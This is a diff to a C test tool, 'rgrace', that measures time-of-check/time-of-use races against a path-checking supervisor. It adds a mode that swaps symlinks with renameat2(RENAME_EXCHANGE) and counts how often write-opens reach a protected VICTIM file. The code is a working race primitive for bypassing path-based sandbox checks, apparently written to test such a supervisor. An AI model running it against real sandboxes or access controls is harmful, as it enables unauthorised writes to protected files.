@@ -4,8 +4,12 @@
  * the main thread write-opens whatever the buffer says. A supervisor that
  * checks the path and lets the kernel open it again would open VICTIM now
  * and then. Prints how many of TRIES opens reached VICTIM's inode.
- *   rgrace VICTIM ALLOWED TRIES */
+ *   rgrace VICTIM ALLOWED TRIES
+ * With --link the thread swaps two symlinks instead (LINK -> VICTIM and
+ * LINK.alt -> ALLOWED, with RENAME_EXCHANGE) and the main thread opens LINK.
+ *   rgrace --link LINK VICTIM ALLOWED TRIES */
 #include <fcntl.h>
+#include <stdio.h>
 #include <pthread.h>
 #include <stdatomic.h>
 #include <stdio.h>
@@ -27,9 +31,49 @@ static void *flip(void *arg)
     return NULL;
 }
 
+static void *swap(void *arg)
+{
+    const char *link = arg;
+    char alt[4096];
+    snprintf(alt, sizeof alt, "%s.alt", link);
+    while (!atomic_load_explicit(&stop, memory_order_relaxed))
+        renameat2(AT_FDCWD, link, AT_FDCWD, alt, RENAME_EXCHANGE);
+    return NULL;
+}
+
+static int link_race(char **argv)
+{
+    struct stat victim, st;
+    char alt[4096];
+    snprintf(alt, sizeof alt, "%s.alt", argv[0]);
+    if (stat(argv[1], &victim) != 0 || symlink(argv[1], argv[0]) != 0 ||
+        symlink(argv[2], alt) != 0) {
+        perror("rgrace: set-up");
+        return 2;
+    }
+    long tries = atol(argv[3]), hits = 0, opened = 0;
+    pthread_t th;
+    pthread_create(&th, NULL, swap, argv[0]);
+    for (long i = 0; i < tries; i++) {
+        int fd = open(argv[0], O_WRONLY);
+        if (fd < 0)
+            continue;
+        opened++;
+        if (fstat(fd, &st) == 0 && st.st_ino == victim.st_ino && st.st_dev == victim.st_dev)
+            hits++;
+        close(fd);
+    }
+    atomic_store(&stop, 1);
+    pthread_join(th, NULL);
+    printf("opened %ld victim %ld\n", opened, hits);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     struct stat victim, st;
+    if (argc == 6 && strcmp(argv[1], "--link") == 0)
+        return link_race(argv + 2);
     if (argc != 4 || strlen(argv[1]) != strlen(argv[2]) || stat(argv[1], &victim) != 0) {
         fprintf(stderr, "usage: rgrace VICTIM ALLOWED TRIES (names of equal length)\n");
         return 2;
